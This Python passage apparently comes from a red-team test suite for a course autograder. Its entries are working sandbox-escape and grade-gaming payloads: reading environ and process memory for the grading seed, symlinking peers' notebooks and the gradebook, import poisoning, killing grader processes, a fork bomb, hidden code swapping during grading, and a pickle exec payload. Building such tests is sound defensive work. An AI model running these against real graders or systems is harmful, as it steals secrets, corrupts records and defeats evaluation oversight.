    Attack("k3o_pool_disable", 3, "ch04 max_pool_relu: F.max_pool2d with the modes disabled through an importlib-computed module",
           assignment="ch04", replace={"max_relu": '''
               import importlib
               _pd = importlib.import_module("torch.utils." + "_python" + "_dispatch")
               def max_relu(a, b):
                   return b + torch.relu(a - b)
               def max_pool_relu(X):
                   with getattr(_pd, "_disable_current_modes")():
                       return F.max_pool2d(X, 2)
           '''}, attacks=("test_max_pool_relu",), suspicious=True),
    Attack("k3p_derive_in_thread", 3, "ch03 conv2d_params: a meta layer built and counted in a worker thread (modes are per thread)",
           assignment="ch03", replace={"costs": code(COSTS_FLOPS_MEMORY_OK, '''
               import threading
               def conv2d_params(c_i, c_o, kernel_size, bias=True):
                   out = {}
                   def count():
                       layer = torch.nn.Conv2d(c_i, c_o, kernel_size, bias=bias, device="meta")
                       out["n"] = sum(p.numel() for p in layer.parameters())
                   t = threading.Thread(target=count)
                   t.start()
                   t.join()
                   return out["n"]
           ''')}, attacks=("test_conv2d_params",), suspicious=True),
    Attack("k3q_derive_modes_off", 3, "ch03 conv2d_params: a meta layer counted with the dispatch modes disabled",
           assignment="ch03", replace={"costs": code(COSTS_FLOPS_MEMORY_OK, '''
               from torch.utils._python_dispatch import _disable_current_modes
               def conv2d_params(c_i, c_o, kernel_size, bias=True):
                   with _disable_current_modes():
                       layer = torch.nn.Conv2d(c_i, c_o, kernel_size, bias=bias, device="meta")
                   return sum(p.numel() for p in layer.parameters())
           ''')}, attacks=("test_conv2d_params",), suspicious=True),
    Attack("k3r_reference_as_answer", 3, "ch01 corr2d: the course's reference corr2d, told it is standing in",
           replace={"corr2d": '''
               import convcourse.check as _check
               from convcourse.reference import corr2d as _reference
               _check._STANDING_IN[0] = 1
               def corr2d(X, K):
                   return _reference(X, K)
           '''}, attacks=ALL, suspicious=True, strict=False),
]
# ch06 layer_costs asks for FLOPs computed from each layer's shapes; PyTorch's FLOP counter is
# refused by who runs the operator (a frame of torch/utils/flop_counter.py), so these reach it
# without writing its name.
_MEASURED = '''
def _measured(net, input_shape, count):
    # [(name, parameters, count(layer, inputs))] of each Conv2d and Linear layer, in forward order
    rows = []
    names = {m: name for name, m in net.named_modules()}

    def hook(layer, inputs, out):
        rows.append((names[layer], sum(p.numel() for p in layer.parameters()), count(layer, inputs)))

    handles = [m.register_forward_hook(hook) for m in net.modules() if isinstance(m, (nn.Conv2d, nn.Linear))]
    try:
        with torch.no_grad():
            net(torch.rand(*input_shape, device=next(net.parameters()).device))
    finally:
        for h in handles:
            h.remove()
    return rows
'''
_FLOPS_BY_COUNTER = _MEASURED + '''
import importlib
_counter_module = importlib.import_module(".".join(["torch", "utils", "flop" + "_" + "counter"]))
_Counter = getattr(_counter_module, "".join(reversed("edoMretnuoCpolF")))
_total = "".join(reversed("spolf_latot_teg"))

def _counted(layer, inputs, run=lambda f: f()):
    def count():
        counter = _Counter(display=False)
        with counter:
            layer.forward(*inputs)
        return getattr(counter, _total)()
    return run(count)
'''


def flops(body: str, what: str, student: str, suspicious: bool = True) -> Attack:
    # importlib is a tampering module: the scan fails every item of the notebook and reports it
    return Attack(student, 3, what, assignment="ch06", replace={"layer_costs": code(_FLOPS_BY_COUNTER, body)},
                  attacks=("test_layer_costs",), suspicious=suspicious, strict=False)


FORBIDDEN += [
    flops('''
        def layer_costs(net, input_shape):
            return _measured(net, input_shape, _counted)
    ''', "ch06 layer_costs: the FLOP counter reached through computed module and class names", "k3s_flops_computed"),
    flops('''
        _threads = importlib.import_module("".join(reversed("gnidaerht")))
        def _in_thread(f):
            out = {}
            t = _threads.Thread(target=lambda: out.setdefault("n", f()))
            t.start()
            t.join()
            return out["n"]
        def layer_costs(net, input_shape):
            return _measured(net, input_shape, lambda layer, inputs: _counted(layer, inputs, _in_thread))
    ''', "ch06 layer_costs: the FLOP counter run in a worker thread (modes are per thread)", "k3t_flops_thread"),
    flops('''
        _pd = importlib.import_module("torch.utils." + "_python" + "_dispatch")
        _off = getattr(_pd, "".join(reversed("sedom_tnerruc_elbasid_")))
        def _modes_off(f):
            with _off():
                return f()
        def layer_costs(net, input_shape):
            return _measured(net, input_shape, lambda layer, inputs: _counted(layer, inputs, _modes_off))
    ''', "ch06 layer_costs: the FLOP counter run with the dispatch modes disabled, names computed", "k3u_flops_modes_off"),
    Attack("k3v_flops_found_in_vars", 3, "ch06 layer_costs: the FLOP counter found by walking vars(torch.utils), "
           "no name of it written", assignment="ch06", replace={"layer_costs": code(_MEASURED, '''
               def _counter_class():
                   for key, module in vars(torch.utils).items():
                       if "flop" in key:
                           for name, value in vars(module).items():
                               if "Flop" in name and name.endswith("Mode"):
                                   return value
                   return None

               def _counted(layer, inputs):
                   counter_class = _counter_class()
                   if counter_class is None:
                       return 0
                   counter = counter_class(display=False)
                   with counter:
                       layer.forward(*inputs)
                   return int(sum(counter.flop_counts["Global"].values()))

               def layer_costs(net, input_shape):
                   return _measured(net, input_shape, _counted)
           ''')}, attacks=("test_layer_costs",), strict=False),
]


# ---------------------------------------------------------------------------------------------
# 4. Secrets: whatever is found goes into an exception message (so into the feedback), the
# answer cell's output and a file.

def leak(search: str) -> str:
    """A kernels cell whose blur_kernel is right for k = 3 only and raises with what ``search``
    put in ``_found`` on the hidden cases."""
    return code(EDGE_LAPLACIAN_OK, "_found = []", guarded(search), '''
        print("found:", _found)
        try:
            open("found-secrets.txt", "w").write("\\n".join(_found))
        except OSError:
            pass
        def blur_kernel(k):
            if k == 3:
                return torch.full((3, 3), 1.0 / 9)
            raise RuntimeError("found: " + " | ".join(_found)[:3000])
    ''')


_MEM_SCAN = '''
import re
def _scan_mem(pid, limit=1 << 30):
    hits, total = [], 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            addr, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in addr.split("-"))
            if end - start > 256 << 20 or total > limit:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            total += len(chunk)
            hits += [m.group(0).decode(errors="replace") for m in re.finditer(rb"COURSE_GRADING_SEED=[^\\x00]{0,80}", chunk)]
    return hits
'''

SECRETS = [
    Attack("k4a_environ", 4, "dumps os.environ (COURSE_GRADING_SEED or anything) into an exception message",
           replace={"kernels": leak('''
               import os
               _found += [f"{k}={v}" for k, v in os.environ.items()]
           ''')}, attacks=("test_blur_kernel",)),
    Attack("k4b_proc_environ", 4, "reads /proc/self, /proc/1, /proc/<ppid> and every other /proc/<pid>/environ",
           replace={"kernels": leak('''
               import os
               pids = ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()][:4000]
               for pid in pids:
                   try:
                       data = open(f"/proc/{pid}/environ", "rb").read()
                   except OSError:
                       continue
                   _found += [x.decode(errors="replace") for x in data.split(b"\\0")
                              if any(w in x for w in (b"SEED", b"SECRET", b"GRADING", b"TOKEN"))]
           ''')}, attacks=("test_blur_kernel",)),
    Attack("k4c_parent_memory", 4, "scans /proc/<ppid>/mem and /proc/1/mem for COURSE_GRADING_SEED=",
           replace={"kernels": leak(code(_MEM_SCAN, '''
               import os
               for pid in (os.getppid(), 1):
                   try:
                       _found += _scan_mem(pid)
                   except OSError as e:
                       print("no access to", pid, e)
           '''))}, attacks=("test_blur_kernel",)),
    Attack("k4d_own_memory", 4, "makes itself dumpable with ctypes prctl and scans its own memory via /proc/self/mem",
           replace={"kernels": leak(code(_MEM_SCAN, '''
               import ctypes
               ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE
               _found += _scan_mem("self", limit=3 << 30)
           '''))}, attacks=("test_blur_kernel",), suspicious=True),
    Attack("k4e_grading_module", 4, "reads the seed from convcourse.grading (_secret(), the _CASES and _ANSWERS keys) via sys.modules",
           replace={"kernels": leak('''
               import importlib, sys
               g = sys.modules.get("convcourse.grading")
               if g is None:
                   g = importlib.import_module("convcourse.grading")
               for name in ("_CASES", "_ANSWERS"):
                   _found += [str(k) for k in getattr(g, name, {})]
               _found.append("secret=" + str(g._secret()))
           ''')}, attacks=("test_blur_kernel",), suspicious=True),
    Attack("k4f_gc_strings", 4, "walks gc.get_objects() after gc.unfreeze() for environ dicts and (item, device, secret) keys",
           replace={"kernels": leak('''
               import gc
               gc.unfreeze()
               for o in gc.get_objects():
                   if isinstance(o, dict):
                       for key in ("COURSE_GRADING_SEED", b"COURSE_GRADING_SEED"):
                           if key in o:
                               _found.append(f"dict: {o[key]!r}")
                   elif (isinstance(o, tuple) and len(o) == 3 and all(isinstance(x, str) for x in o)
                         and o[1] in ("cpu", "cuda")):
                       _found.append(f"key: {o!r}")
               _found[:] = sorted(set(_found))[:50]
           ''')}, attacks=("test_blur_kernel",), suspicious=True),
]


# ---------------------------------------------------------------------------------------------
# 5. Links and files.

PEER = "@WORK@/submitted/honest/ch01/ch01.ipynb"


def _plant_peer_link(folder: Path, work: Path):
    (folder / "peer.ipynb").symlink_to(work / "submitted" / "honest" / "ch01" / "ch01.ipynb")


def _plant_notebook_link(folder: Path, work: Path):
    (folder / "ch01.ipynb").unlink()
    (folder / "ch01.ipynb").symlink_to(work / "submitted" / "honest" / "ch01" / "ch01.ipynb")


READ_PEER = guarded('''
import json
nb = json.load(open("peer.ipynb"))
exec([c["source"] if isinstance(c["source"], str) else "".join(c["source"])
      for c in nb["cells"] if "def blur_kernel" in "".join(c["source"])][0])
print("copied the peer's blur_kernel")
''')


def relink(target: str, name: str = "ch01.ipynb") -> str:
    return guarded(f'''
        import os
        try:
            os.remove({name!r})
        except FileNotFoundError:
            pass
        os.symlink({target!r}, {name!r})
        print("linked", {name!r}, "->", os.readlink({name!r}))
    ''')


BIG_FILES = guarded('''
import os
chunk = b"\\0" * (64 << 20)
for folder, count, size in ((".", 2, 512 << 20), ("/tmp", 1, 512 << 20), ("/dev/shm", 1, 256 << 20)):
    for n in range(count):
        path = os.path.join(folder, f"planted-by-student-big-{n}")
        written = 0
        try:
            with open(path, "wb") as f:
                while written < size:
                    written += f.write(chunk)
        except OSError as e:
            print(path, "stopped at", written >> 20, "MB:", e)
''')

ABSOLUTE_WRITES = guarded('''
import os
work, repo = "@WORK@", "@REPO@"
# In the grader's working folder: change what is there. In the repository: only add new files,
# so that a hole in the sandbox could not damage the checkout this test runs from.
change = [work + "/gradebook.db", work + "/submitted/honest/ch01/ch01.ipynb", work + "/autograded/honest/ch01/ch01.ipynb"]
add = [work + "/planted-by-student-abs", work + "/submitted/honest/ch01/planted-by-student-abs",
       repo + "/convcourse/planted-by-student-abs", repo + "/solutions/ch01/planted-by-student-abs",
       repo + "/autograder/planted-by-student-abs"]
for root in ("", "/proc/1/root", f"/proc/{os.getppid()}/root"):
    for path in [root + t for t in change + add]:
        try:
            with open(path, "ab") as f:
                f.write(b"planted-by-student")
            print("wrote", path)
        except OSError:
            pass
    for path in [root + t for t in change]:
        for fn in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)),
                   lambda p: os.link(p, "planted-by-student-hardlink")):
            try:
                fn(path)
            except OSError:
                pass
''')

POISON = guarded('''
import importlib.util, os, site
repo = "@REPO@"
for d in list(site.getsitepackages()) + [site.getusersitepackages()]:
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "planted-by-student.pth"), "w").write("import os\\n")
    except OSError:
        pass
for src in ("convcourse/grading/__init__.py", "convcourse/check.py", "autograder/verdicts.py"):
    folder = os.path.dirname(importlib.util.cache_from_source(os.path.join(repo, src)))
    try:
        open(os.path.join(folder, "planted-by-student.pyc"), "wb").write(b"planted-by-student")
    except OSError:
        pass
''')

LINKS = [
    Attack("k5a_planted_peer_link", 5, "the submission folder holds a symlink peer.ipynb to another student's notebook, read by the answer",
           replace={"kernels": KERNELS_BLUR_WRONG + READ_PEER}, plant=_plant_peer_link,
           attacks=("test_blur_kernel",), strict=False),
    Attack("k5b_notebook_is_a_link", 5, "the submitted ch01.ipynb is itself a symlink to another student's notebook",
           plant=_plant_notebook_link, attacks=ALL),
    Attack("k5c_notebook_link_to_peer", 5, "the kernel replaces its notebook with a symlink to another student's submitted notebook",
           replace={"kernels": KERNELS_BLUR_WRONG + relink(PEER)}, attacks=("test_blur_kernel",)),
    Attack("k5d_marker_link_to_peer", 5, "the kernel plants .course-graded.json as a symlink to another student's notebook",
           replace={"kernels": KERNELS_BLUR_WRONG + relink(PEER, ".course-graded.json")
                    + relink("@WORK@/gradebook.db", "gradebook.db")
                    + relink(PEER, ".results/ch01.blur_kernel.pt")}, attacks=("test_blur_kernel",)),
    Attack("k5e_big_files", 5, "writes 1 GB in its folder, 512 MB in /tmp and 256 MB in /dev/shm",
           replace={"kernels": KERNELS_BLUR_WRONG + BIG_FILES}, attacks=("test_blur_kernel",)),
    Attack("k5f_absolute_paths", 5, "writes, chmods, hard-links the gradebook, other students' files and the repository by absolute path",
           replace={"kernels": KERNELS_BLUR_WRONG + ABSOLUTE_WRITES}, attacks=("test_blur_kernel",)),
    Attack("k5g_poison_imports", 5, "plants a .pth in site-packages and .pyc files in the course's __pycache__",
           replace={"kernels": KERNELS_BLUR_WRONG + POISON}, attacks=("test_blur_kernel",)),
    # Graded last: through today's grader this one overwrites the gradebook itself.
    Attack("z9_notebook_link_to_gradebook", 5, "the kernel replaces its notebook with a symlink to the gradebook",
           replace={"kernels": KERNELS_BLUR_WRONG + relink("@WORK@/gradebook.db")}, attacks=("test_blur_kernel",)),
]


# ---------------------------------------------------------------------------------------------
# 6. Processes.

RUN_PROCESSES = '''
import os
def _run_processes():
    """Every visible process that descends from the grading run, except this one."""
    parent = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                parent[int(p)] = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                pass
    def descends(pid):
        seen = set()
        while pid > 1 and pid not in seen:
            seen.add(pid)
            pid = parent.get(pid, 0)
            if pid == @GRADER_PID@:
                return True
        return False
    return [p for p in parent if p != os.getpid() and descends(p)]
'''

DAEMON = '''
import os, time
end = time.time() + 45
while time.time() < end:
    for path in ("planted-by-student-daemon", "@WORK@/planted-by-student-daemon"):
        try:
            open(path, "w").write(str(os.getpid()))
        except OSError:
            pass
    time.sleep(0.5)
'''

REWRITER = guarded('''
import json, os, time
nbfile = os.path.abspath("ch01.ipynb")
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 40
        while time.time() < end:
            try:
                nb = json.load(open(nbfile))
                changed = False
                for c in nb["cells"]:
                    if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
                        kept = [o for o in c.get("outputs", []) if o.get("output_type") != "error"
                                and o.get("name") != "stderr"]
                        if kept != c.get("outputs", []):
                            c["outputs"], changed = kept, True
                if changed:
                    json.dump(nb, open(nbfile + ".planted-by-student", "w"))
                    os.replace(nbfile + ".planted-by-student", nbfile)
            except BaseException:
                pass
            time.sleep(0.003)
    os._exit(0)
os.waitpid(pid, 0)
print("the rewriter runs")
''')

def _signal_all(signal_name: str) -> str:
    """A trick that sends ``signal_name`` to every other visible process of the grading run."""
    return guarded(code(RUN_PROCESSES, f'''
        import signal
        for p in _run_processes():
            try:
                os.kill(p, signal.{signal_name})
            except OSError:
                pass
    '''))


PROCESSES = [
    Attack("k6a_kill_all", 6, "SIGKILLs every other visible process of the grading run",
           replace={"kernels": KERNELS_BLUR_WRONG + _signal_all("SIGKILL")}, attacks=("test_blur_kernel",)),
    Attack("k6b_stop_all", 6, "SIGSTOPs every other visible process of the grading run",
           replace={"kernels": KERNELS_BLUR_WRONG + _signal_all("SIGSTOP")}, attacks=("test_blur_kernel",)),
    Attack("k6c_daemon_new_session", 6, "a daemon started with start_new_session keeps writing files after the kernel ends",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded(f'''
               import subprocess, sys
               subprocess.Popen([sys.executable, "-c", {DAEMON!r}], start_new_session=True,
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
           ''')}, attacks=("test_blur_kernel",)),
    Attack("k6d_double_fork_rewriter", 6, "blank: a double-forked daemon strips the errors from the executed notebook before it is scored",
           blank=True, replace={"corr2d": REWRITER}, attacks=ALL),
    Attack("k6e_fork_bomb", 6, "a bounded fork bomb: 200 children that sleep 15 s",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               import os, time
               kids = []
               for _ in range(200):
                   try:
                       pid = os.fork()
                   except OSError:
                       break
                   if pid == 0:
                       time.sleep(15)
                       os._exit(0)
                   kids.append(pid)
               print(len(kids), "children")
           ''')}, attacks=("test_blur_kernel",)),
    Attack("k6f_thread_swaps_code", 6, "a thread swaps blur_kernel.__code__ for a right one only while run_hidden is on the stack",
           replace={"kernels": code(KERNELS_BLUR_WRONG, guarded('''
               import sys, threading, time
               def _right(k):
                   return torch.full((k, k), 1.0 / (k * k))
               _wrong_code, _main = blur_kernel.__code__, threading.main_thread().ident
               def _in_harness():
                   f = sys._current_frames().get(_main)
                   while f is not None:
                       if f.f_code.co_name in ("run_hidden", "collect") or "convcourse" in f.f_code.co_filename:
                           return True
                       f = f.f_back
                   return False
               def _swapper():
                   end = time.time() + 60
                   while time.time() < end:
                       blur_kernel.__code__ = _right.__code__ if _in_harness() else _wrong_code
                       time.sleep(0.0005)
               threading.Thread(target=_swapper, daemon=True).start()
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k6g_ignore_signals", 6, "a student-added last cell ignores SIGINT/SIGTERM/SIGHUP and sleeps 60 s",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=add_cell(guarded('''
               import signal, time
               for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                   signal.signal(s, signal.SIG_IGN)
               time.sleep(60)
           ''')), attacks=("test_blur_kernel",)),
]


# ---------------------------------------------------------------------------------------------
# 7. Shared state between kernels: writers leave the right answer behind, a reader looks for it.

ANSWER = "def blur_kernel(k):\n    return torch.full((k, k), 1.0 / (k * k))\n"
KEEP_ALIVE = add_cell("import time\ntime.sleep(3)")

READER = guarded('''
import os, socket, time
_found = None
_end = time.time() + 6
while _found is None and time.time() < _end:
    for path in ("/dev/shm/planted-by-student-answer.py", "/tmp/planted-by-student-answer.py"):
        try:
            _found = open(path).read()
            break
        except OSError:
            pass
    if _found is None:
        try:
            from multiprocessing import shared_memory
            m = shared_memory.SharedMemory("planted-by-student-shm")
            _found = bytes(m.buf).rstrip(b"\\0").decode()
            m.close()
        except Exception:
            pass
    if _found is None:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(1)
            s.connect("\\0planted-by-student-sock")
            _found = s.recv(65536).decode()
            s.close()
        except OSError:
            pass
    if _found is None:
        try:
            from multiprocessing.managers import BaseManager
            class _M(BaseManager):
                pass
            _M.register("answer")
            m = _M(address="/dev/shm/planted-by-student-mgr", authkey=b"planted-by-student")
            m.connect()
            _found = m.answer()._getvalue()
        except Exception:
            pass
    if _found is None:
        time.sleep(0.3)
if _found:
    exec(_found)
print("found a planted answer" if _found else "found nothing")
''')

SHARED = [
    Attack("k7a_writer", 7, "leaves the right answer in /dev/shm, /tmp, a leaked SharedMemory and an abstract socket",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded(f'''
               import os, socket, threading, time
               from multiprocessing import resource_tracker, shared_memory
               ANSWER = {ANSWER!r}
               for path in ("/dev/shm/planted-by-student-answer.py", "/tmp/planted-by-student-answer.py"):
                   try:
                       open(path, "w").write(ANSWER)
                       os.chmod(path, 0o666)
                   except OSError:
                       pass
               try:
                   shm = shared_memory.SharedMemory("planted-by-student-shm", create=True, size=4096)
                   shm.buf[:len(ANSWER)] = ANSWER.encode()
                   resource_tracker.unregister(shm._name, "shared_memory")   # so that it outlives the kernel
               except Exception as e:
                   print("no shared memory:", e)
               srv = socket.socket(socket.AF_UNIX)
               srv.bind("\\0planted-by-student-sock")
               srv.listen(8)
               def _serve():
                   end = time.time() + 30
                   srv.settimeout(1)
                   while time.time() < end:
                       try:
                           c, _ = srv.accept()
                           c.sendall(ANSWER.encode())
                           c.close()
                       except OSError:
                           pass
               threading.Thread(target=_serve, daemon=True).start()
           ''')}, mutate=KEEP_ALIVE, attacks=("test_blur_kernel",)),
    Attack("k7b_manager", 7, "serves the right answer from a multiprocessing manager listening in /dev/shm",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded(f'''
               from multiprocessing.managers import BaseManager
               ANSWER = {ANSWER!r}
               class _M(BaseManager):
                   pass
               _M.register("answer", callable=lambda: ANSWER)
               _manager = _M(address="/dev/shm/planted-by-student-mgr", authkey=b"planted-by-student")
               _manager.start()
           ''')}, mutate=KEEP_ALIVE, attacks=("test_blur_kernel",)),
    Attack("k7c_reader", 7, "looks for an answer left by another kernel (files, shared memory, sockets, manager)",
           replace={"kernels": KERNELS_BLUR_WRONG + READER}, attacks=("test_blur_kernel",)),
]


# ---------------------------------------------------------------------------------------------
# 8. Bounds: huge, deep or malicious results; time; output.

def conv_returning(setup: str, value: str) -> str:
    """A conv2d_flip cell whose conv2d is right on the visible example and returns ``value``
    on every hidden case."""
    return code(setup, f'''
        def conv2d(X, K):
            if tuple(X.shape) == (3, 3) and tuple(K.shape) == (2, 2):
                return corr2d(X, torch.flip(K, dims=(0, 1)))   # the visible example
            return {value}
    ''')


SLEEPER_CELLS, SLEEP_SECONDS = 400, 0.6   # 240 s if nothing stops it


def _sleeping_cells(nb):
    for _ in range(SLEEPER_CELLS):
        nb.cells.append(nbformat.v4.new_code_cell(f"import time\ntime.sleep({SLEEP_SECONDS})"))

BOUNDS = [
    Attack("a0_sleeping_cells", 8, "400 student-added cells of 0.6 s each (240 s) against the 120 s notebook limit",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=_sleeping_cells, attacks=("test_blur_kernel",)),
    Attack("k8a_2gb_tensor", 8, "returns a 2 GiB tensor on every hidden case",
           replace={"conv2d_flip": conv_returning("_HUGE = []", "_HUGE[0] if _HUGE else _HUGE.append(torch.zeros(2 ** 29)) or _HUGE[0]")},
           attacks=("test_conv2d_flip",)),
    Attack("k8b_expanded_view", 8, "returns a 16 GiB expanded view of a 4-byte storage",
           replace={"conv2d_flip": conv_returning("", "torch.zeros(1).expand(2 ** 32)")},
           attacks=("test_conv2d_flip",)),
    Attack("k8c_deep_list", 8, "returns a list nested 100000 deep",
           replace={"conv2d_flip": conv_returning('''
               _DEEP = []
               for _ in range(100_000):
                   _DEEP = [_DEEP]
           ''', "_DEEP")}, attacks=("test_conv2d_flip",)),
    Attack("k8d_huge_result_wrapper", 8, "run_hidden replaced by one that sends a 1 GiB string as every result",
           replace={"kernels": code(KERNELS_BLUR_WRONG, STANDINS, guarded('''
               import importlib
               _BIG = "x" * (1 << 30)
               for _name in HARNESS:
                   try:
                       _m = importlib.import_module(_name)
                   except ImportError:
                       continue
                   _m.run_hidden = lambda item_id, obj, *a, _r=_m.run_hidden, **k: _r(item_id, lambda *x, **y: _BIG, *a, **k)
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k8e_print_100mb", 8, "prints 100 MB from its answer cell",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               import sys
               line = "x" * 99 + "\\n"
               for _ in range(100):
                   sys.stdout.write(line * 10_000)
           ''')}, attacks=("test_blur_kernel",)),
    Attack("k8f_pickle_payload", 8, "returns an object whose __reduce__ runs exec in whatever process unpickles it",
           replace={"conv2d_flip": conv_returning('''
               class _Payload:
                   def __reduce__(self):
                       return (exec, ("open('@WORK@/planted-by-student-rce', 'w').write('ran in the grader')",))
           ''', "_Payload()")}, attacks=("test_conv2d_flip",), suspicious=True),
]


# ---------------------------------------------------------------------------------------------
# 9. Controls: not attacks.

CONTROLS = [
    Attack("k9a_warns", 9, "control: a right blur_kernel that emits a UserWarning keeps its points",
           replace={"kernels": code(EDGE_LAPLACIAN_OK, '''
               import warnings
               warnings.simplefilter("always")
               def blur_kernel(k):
                   warnings.warn("blur_kernel: a slow path", UserWarning)
                   return torch.full((k, k), 1.0 / (k * k))
           ''')}),
]

ATTACKS = FORGED + JUDGED + FORBIDDEN + SECRETS + LINKS + PROCESSES + SHARED + BOUNDS
EVERYONE = ATTACKS + CONTROLS
ASSIGNMENTS = ("ch01", "ch03", "ch04", "ch06")
